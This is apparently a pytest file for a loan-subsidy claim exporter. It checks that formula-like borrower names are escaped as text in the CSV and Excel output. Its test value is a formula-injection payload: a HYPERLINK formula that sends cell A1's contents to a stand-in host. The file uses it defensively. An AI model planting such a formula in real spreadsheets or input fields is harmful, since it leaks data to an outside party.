"""The claim's CSV and Excel forms (issue #18 point 3) keep caller text as text (S10): a borrower's name that looks
like a formula is written with a leading quote in both, and the figures stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

from openpyxl import load_workbook

from services.loans.models import SubsidyClaimLine
from services.loans.subsidy_export import HEADER, csv_of, excluded_text, line_row, workbook_of

PLANTED = '=HYPERLINK("http://x.example/?"&A1,"点此")'


def line() -> SubsidyClaimLine:
    return SubsidyClaimLine(
        county_code="440101", claim_id="sbc_1", loan_id="loan_1", household_id="HH1", borrower_name=PLANTED,
        period_from=date(2018, 1, 1), period_to=date(2018, 4, 1), days=90, subsidised_days=60, overdue_days=30,
        misuse_days=0, principal_fen_days=60_000_000, subsidy_fen=7_917,
        excluded=[{"reason": "overdue", "from": "2018-03-02", "to": "2018-04-01", "days": 30}],
    )


def test_a_formula_in_a_name_is_text_in_the_csv_and_the_numbers_are_numbers() -> None:
    rows = list(csv.reader(io.StringIO(csv_of([HEADER, line_row(line())]).decode("utf-8-sig"))))
    assert rows[1][2] == "'" + PLANTED and rows[1][-1] == "7917"
    assert rows[1][7] == "overdue 2018-03-02..2018-04-01 (30 days)"


def test_a_formula_in_a_name_is_text_in_the_workbook_and_the_numbers_are_numbers() -> None:
    sheet = load_workbook(io.BytesIO(workbook_of([HEADER, line_row(line())]))).worksheets[0]
    name, subsidy = sheet.cell(row=2, column=3), sheet.cell(row=2, column=10)
    assert (name.value, name.data_type) == ("'" + PLANTED, "s")
    assert (subsidy.value, subsidy.data_type) == (7_917, "n")


def test_no_excluded_days_is_an_empty_cell() -> None:
    assert excluded_text([]) == ""
